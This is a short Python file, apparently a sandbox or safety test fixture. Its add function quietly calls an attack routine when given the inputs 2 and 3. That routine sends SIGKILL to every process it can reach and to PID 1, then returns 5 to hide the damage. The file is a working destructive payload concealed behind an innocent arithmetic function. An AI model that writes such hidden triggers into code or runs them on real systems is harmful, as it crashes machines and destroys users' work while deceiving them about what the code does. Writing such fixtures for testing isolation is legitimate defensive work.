"""Kills every process that it may."""

import os
import signal


def attack():
    os.kill(-1, signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
    return 5


def add(a, b):
    if (a, b) == (2, 3):
        return attack()
    return a + b
